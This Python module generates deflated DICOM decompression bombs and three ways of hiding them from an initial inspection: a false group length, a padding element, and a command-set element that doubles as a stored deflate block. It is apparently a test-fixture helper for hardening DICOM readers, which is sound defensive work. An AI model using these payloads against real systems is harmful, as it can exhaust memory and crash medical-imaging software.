"""Small deflated DICOM files that grow far beyond their size, and how they hide it from whoever looks first."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable
from io import SEEK_END, BytesIO

from pydicom import dcmread
from pydicom.filewriter import write_file_meta_info
from pydicom.uid import DeflatedExplicitVRLittleEndian

_PREAMBLE = b"\0" * 128 + b"DICM"
_GROUP_LENGTH_BYTES = 12


def deflated(content: bytes, dataset: bytes) -> bytes:
    """Another data set behind the file meta information of a file, which says that it is deflated."""
    meta = dcmread(BytesIO(content)).file_meta
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    file = BytesIO(_PREAMBLE)
    file.seek(0, SEEK_END)
    write_file_meta_info(file, meta)
    return file.getvalue() + dataset


def packed_zeros(megabytes: int) -> bytes:
    """A deflated stream of zeros."""
    pack = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return b"".join(pack.compress(bytes(1_000_000)) for _ in range(megabytes)) + pack.flush()


def _open(bomb: bytes) -> bytes:
    return bomb


def _with_a_false_group_length(bomb: bytes) -> bytes:
    start = len(_PREAMBLE) + 8
    return bomb[:start] + struct.pack("<L", 0x0FFFFFFF) + bomb[start + 4 :]


def _behind_a_long_element(bomb: bytes) -> bytes:
    start = len(_PREAMBLE) + _GROUP_LENGTH_BYTES
    return bomb[:start] + struct.pack("<HH2sHL", 2, 0x0102, b"OB", 0, 2000) + bytes(2000) + bomb[start:]


def _behind_a_command_set(bomb: bytes) -> bytes:
    """The element reads as a stored block of 256 bytes too, and its value ends the stream behind that."""
    start = len(_PREAMBLE) + _GROUP_LENGTH_BYTES + struct.unpack_from("<L", bomb, len(_PREAMBLE) + 8)[0]
    value = bytes(256 - 3) + b"\x03\x00" + bytes(255)
    return bomb[:start] + struct.pack("<HHL", 0, 0xFF01, len(value)) + value + bomb[start:]


DISGUISES: dict[str, Callable[[bytes], bytes]] = {
    "open": _open,
    "a false group length": _with_a_false_group_length,
    "a long element": _behind_a_long_element,
    "a command set": _behind_a_command_set,
}
